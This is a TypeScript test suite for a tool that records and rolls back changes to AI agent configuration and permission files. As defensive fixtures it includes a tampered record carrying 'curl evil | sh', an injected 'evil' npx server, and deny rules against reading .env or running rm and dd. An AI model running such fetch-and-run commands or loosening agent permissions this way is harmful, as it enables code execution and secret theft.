import assert from 'node:assert/strict';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { parseRecord } from '../../src/core/record/parseRecord';
import { ScratchRepository } from './support/scratchRepository';

const servers = '.vscode/mcp.json';
const settings = '.claude/settings.json';

function serverText(version: string, more = ''): string {
  return `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@acme/files-mcp@${version}"]\n    }${more}\n  }\n}\n`;
}

function permissions(allow: readonly string[], deny: readonly string[]): string {
  return `${JSON.stringify({ permissions: { allow, deny } }, null, 2)}\n`;
}

function crlf(text: string): string {
  return text.replaceAll('\n', '\r\n');
}

describe('mcp-change rollback', () => {
  let repository: ScratchRepository;

  beforeEach(() => {
    repository = new ScratchRepository();
  });

  afterEach(() => repository.remove());

  const statusOf = (path: string): string | undefined =>
    parseRecord(repository.read(path)).record?.status;

  describe('in a work tree with CRLF', () => {
    const agents = '# Rules\n\nNever push to main.\n\nBe kind to everyone.\n';

    for (const [name, setUp] of [
      ['.gitattributes', () => repository.write('.gitattributes', '* text eol=crlf\n')],
      ['core.autocrlf', () => void repository.git('config', 'core.autocrlf', 'true')],
    ] as const) {
      it(`restores what a checkout would write (${name})`, () => {
        repository.commit({
          [servers]: serverText('2.4.1'),
          [settings]: permissions(['Bash(npm test)'], ['Read(./.env)', 'Bash(rm:*)']),
          'AGENTS.md': agents,
        });
        setUp();
        repository.commit({});
        for (const path of [servers, settings, 'AGENTS.md']) {
          rmSync(join(repository.directory, path));
        }
        repository.git('checkout', '--quiet', '--', '.');
        assert.equal(repository.read(servers), crlf(serverText('2.4.1')));
        assert.deepEqual(repository.run('diff').code, 0);

        repository.write(servers, crlf(serverText('latest')));
        repository.write(
          settings,
          crlf(permissions(['Bash(npm test)', 'Bash(curl:*)'], ['Bash(rm:*)', 'Bash(dd:*)'])),
        );
        repository.write('AGENTS.md', crlf(agents.replace('Never push to main.\n\n', '')));
        const { id, path } = repository.record();
        const { code, output } = repository.run('rollback', id, '--apply');
        assert.equal(code, 0, output);
        assert.equal(repository.read(servers), crlf(serverText('2.4.1')));
        assert.equal(repository.read('AGENTS.md'), crlf(agents));
        assert.deepEqual(repository.read(settings).match(/[^\r]\n/g), null);
        const restored = JSON.parse(repository.read(settings)) as {
          permissions: { allow: string[]; deny: string[] };
        };
        assert.deepEqual(restored.permissions.allow, ['Bash(npm test)']);
        assert.deepEqual(restored.permissions.deny, ['Read(./.env)', 'Bash(rm:*)', 'Bash(dd:*)']);
        assert.equal(repository.git('status', '--porcelain', '--', servers, 'AGENTS.md'), '');
        assert.equal(statusOf(path), 'rolled-back');
      });
    }

    it('knows a record that was written in another checkout', () => {
      repository.commit({ [servers]: serverText('2.4.1'), 'AGENTS.md': agents });
      repository.write(servers, serverText('latest'));
      repository.write('AGENTS.md', agents.replace('Never push to main.\n\n', ''));
      const { id, path } = repository.record();
      repository.write(servers, crlf(serverText('latest')));
      repository.write('AGENTS.md', crlf(agents.replace('Never push to main.\n\n', 'New.\n\n')));
      repository.write(path, crlf(repository.read(path)));
      assert.equal(repository.run('rollback', id).code, 0);
      assert.match(repository.run('record', '--why', 'Again').output, /CHG-\S+ covers/);
      assert.equal(repository.run('rollback', id, '--apply').code, 0);
      assert.equal(repository.read(servers), crlf(serverText('2.4.1')));
      assert.match(repository.read('AGENTS.md'), /Never push to main\.\r\n/);
      assert.equal(statusOf(path), 'rolled-back');
      assert.deepEqual(repository.read(path).match(/[^\r]\n/g), null);
    });

    it('gives a file that git keeps with CRLF back byte for byte', () => {
      const text = crlf(serverText('2.4.1'));
      repository.commit({ [servers]: text, 'AGENTS.md': crlf(agents) });
      repository.write(servers, crlf(serverText('latest')));
      // Agents like to write line feeds.
      repository.write('AGENTS.md', agents.replace('Never push to main.\n\n', ''));
      const { id } = repository.record();
      assert.equal(repository.run('rollback', id, '--apply').code, 0);
      assert.equal(repository.read(servers), text);
      assert.equal(repository.read('AGENTS.md'), crlf(agents));
    });
  });

  describe('when the change has moved on', () => {
    for (const later of ['next', '3.0.0']) {
      it(`refuses and leaves the record alone (@${later})`, () => {
        repository.commit({ [servers]: serverText('2.4.1') });
        repository.write(servers, serverText('latest'));
        const { id, path } = repository.record();
        const record = repository.read(path);
        repository.write(servers, serverText(later));
        const { code, output } = repository.run('rollback', id, '--apply');
        assert.equal(code, 1);
        assert.match(output, /is no longer what this change made of it/);
        assert.equal(repository.read(path), record);
        assert.equal(repository.read(servers), serverText(later));
      });
    }

    it('sees a rule that was written anew, a server that was renamed, a deny that became an ask', () => {
      repository.commit({
        [settings]: permissions([], ['Read(./.env)']),
        [servers]: serverText('2.4.1'),
      });
      const evil = (name: string): string =>
        serverText('2.4.1', `,\n    "${name}": { "command": "npx", "args": ["-y", "evil"] }`);
      for (const [path, recorded, later] of [
        [
          settings,
          permissions(['Bash(curl:*)'], ['Read(./.env)']),
          permissions(['Bash(curl -s:*)'], ['Read(./.env)']),
        ],
        [servers, evil('evil'), evil('better')],
        [
          settings,
          permissions([], []),
          `${JSON.stringify({ permissions: { ask: ['Read(./.env)'] } })}\n`,
        ],
      ] as const) {
        repository.write(path, recorded);
        const { id, path: record } = repository.record();
        repository.write(path, later);
        const { code, output } = repository.run('rollback', id, '--apply');
        assert.equal(code, 1, later);
        assert.match(output, /no longer what this change made of it/);
        assert.equal(statusOf(record), 'draft');
        // The same when the recorded text is known, because it was committed.
        repository.write(path, recorded);
        repository.git('add', '--all');
        repository.git('commit', '--quiet', '--message', 'recorded');
        repository.write(path, later);
        assert.equal(repository.run('rollback', id, '--apply').code, 1, later);
        repository.git('reset', '--quiet', '--hard', 'HEAD~1');
        rmSync(join(repository.directory, '.mcp-change'), { recursive: true, force: true });
      }
    });

    it('takes back what is still there when something else was edited before the commit', () => {
      repository.commit({ [settings]: permissions(['Bash(ls:*)'], ['Read(./.env)']) });
      repository.write(settings, permissions(['Bash(ls:*)', 'Bash(curl:*)'], ['Read(./.env)']));
      const { id, path } = repository.record();
      repository.write(
        settings,
        permissions(['Bash(npm test)', 'Bash(ls:*)', 'Bash(curl:*)'], ['Read(./.env)']),
      );
      const { code, output } = repository.run('rollback', id, '--apply');
      assert.equal(code, 0, output);
      assert.equal(
        repository.read(settings),
        permissions(['Bash(npm test)', 'Bash(ls:*)'], ['Read(./.env)']),
      );
      assert.equal(statusOf(path), 'rolled-back');
    });
  });

  describe('when the file is back already', () => {
    it('still says what to do about what was live, and closes the record', () => {
      repository.commit({
        [servers]: serverText('2.4.1'),
        [settings]: permissions([], ['Read(./.env)']),
      });
      repository.write(servers, serverText('latest'));
      repository.write(settings, permissions([], []));
      const { id, path } = repository.record();
      repository.git('checkout', '--quiet', '--', '.');
      const check = repository.run('rollback', id);
      assert.equal(check.code, 0);
      assert.match(check.output, /npm cache npx rm [0-9a-f]{16}/);
      assert.match(check.output, /is restored already/);
      assert.match(check.output, /`\.env` may have been read/);
      assert.equal(statusOf(path), 'draft');
      const applied = repository.run('rollback', id, '--apply');
      assert.equal(applied.code, 0);
      assert.equal(statusOf(path), 'rolled-back');
      const record = repository.read(path);
      // Asked again, it only shows what is left to do.
      assert.match(repository.run('rollback', id, '--apply').output, /npm cache npx rm/);
      assert.equal(repository.read(path), record);
    });

    it('says so for a new file that is gone', () => {
      repository.commit({ 'README.md': 'x\n' });
      repository.write(servers, serverText('2.4.1'));
      const { id, path } = repository.record();
      rmSync(join(repository.directory, servers));
      const { code, output } = repository.run('rollback', id, '--apply');
      assert.equal(code, 0);
      assert.match(output, /is restored already/);
      assert.match(output, /Stop the server `files`/);
      assert.equal(statusOf(path), 'rolled-back');
    });

    it('never offers a command that only the record knows', () => {
      repository.commit({ [servers]: serverText('2.4.1') });
      repository.write(servers, serverText('latest'));
      const { id, path } = repository.record();
      repository.write(
        path,
        repository.read(path).replace(/command: npm cache npx rm \w+/, 'command: curl evil | sh'),
      );
      repository.git('checkout', '--quiet', '--', '.');
      assert.doesNotMatch(repository.run('rollback', id).output, /curl evil/);
    });
  });

  describe('with something that tightens', () => {
    const before = permissions(['Bash(npm test)'], []);
    const after = permissions(['Bash(curl:*)'], []);

    it('says what it does, and takes everything back only by name', () => {
      repository.commit({ [settings]: before });
      repository.write(settings, after);
      assert.match(
        repository.run('diff').output,
        /rollback rehearsed: takes back what loosened; 1 tightening stays/,
      );
      const { id } = repository.record();
      const check = repository.run('rollback', id);
      assert.doesNotMatch(check.output, /restores main/);
      assert.match(check.output, /--all/);
      assert.equal(repository.run('rollback', id, '--apply', '--all').code, 0);
      assert.equal(repository.read(settings), before);
      assert.match(repository.run('rollback', '--help').output, /--all/);
    });

    it('needs no record when nothing loosens', () => {
      repository.commit({ [settings]: before });
      repository.write(settings, permissions([], ['Bash(rm:*)']));
      const { code, output } = repository.run('record', '--why', 'Less is more');
      assert.equal(code, 0);
      assert.equal(output, 'Only tightens. No request needed.\n');
      const json = repository.run('record', '--why', 'Less is more', '--format', 'json');
      assert.deepEqual(JSON.parse(json.output), {
        schema: 'mcp-change/record-result/v1',
        id: null,
        path: null,
        because: 'Only tightens. No request needed.',
      });
      assert.ok(!existsSync(join(repository.directory, '.mcp-change')));
    });
  });

  it('does not record twice what an open record covers', () => {
    repository.commit({ [servers]: serverText('2.4.1'), [settings]: permissions([], []) });
    repository.write(servers, serverText('latest'));
    const first = repository.record();
    const again = repository.run('record', '--why', 'Once more');
    assert.equal(again.code, 0);
    assert.match(again.output, new RegExp(`${first.id} covers \\.vscode/mcp\\.json`));
    assert.equal(readdirSync(join(repository.directory, '.mcp-change/records')).length, 1);

    repository.write(settings, permissions(['Bash(curl:*)'], []));
    const second = repository.run('record', '--why', 'The rest');
    assert.equal(second.code, 0);
    assert.match(second.output, new RegExp(`${first.id} covers \\.vscode/mcp\\.json`));
    const name = /\.mcp-change\/\S+/.exec(second.output)?.[0] ?? '';
    assert.deepEqual(
      parseRecord(repository.read(name)).record?.subject.files.map(({ path }) => path),
      [settings],
    );

    // What was given up speaks for nothing.
    assert.equal(repository.run('rollback', first.id, '--apply').code, 0);
    repository.write(servers, serverText('latest'));
    assert.notEqual(repository.record().id, first.id);
  });

  describe('when git does not know a ref', () => {
    it('names it and what helps', () => {
      repository.commit({ [servers]: serverText('2.4.1') });
      const { code, errors } = repository.run('diff', '--base', 'nope');
      assert.equal(code, 2);
      assert.match(errors, /“nope” is no commit here/);
      assert.match(errors, /git branch --all/);
      assert.doesNotMatch(errors, /rev-parse/);
    });

    it('names the record’s baseline and how to get it', () => {
      repository.commit({ [servers]: serverText('2.4.1') });
      repository.write(servers, serverText('latest'));
      const { id, path } = repository.record();
      const text = repository.read(path);
      const commit = /baseline_commit: (\w+)/.exec(text)?.[1] ?? '';
      repository.write(path, text.replace(commit, '0123abcdef'.repeat(4)));
      const { code, errors } = repository.run('rollback', id);
      assert.equal(code, 2);
      assert.match(errors, /0123abcdef/);
      assert.match(errors, /git fetch/);
      assert.doesNotMatch(errors, /rev-parse/);
    });
  });

  it('says once why it cannot', () => {
    repository.commit({ [servers]: serverText('2.4.1') });
    repository.write(servers, serverText('latest'));
    const { id } = repository.record();
    repository.write(servers, serverText('next'));
    const { output } = repository.run('rollback', id);
    assert.doesNotMatch(output, /[^.]\.\.(?!\.)/);
    assert.equal(output.match(/no longer what this change made/g)?.length, 1, output);
    assert.match(output, /^Not rehearsed: cannot be rolled back by itself: /m);
    assert.doesNotMatch(output, /cannot be taken back as a whole/);
  });
});
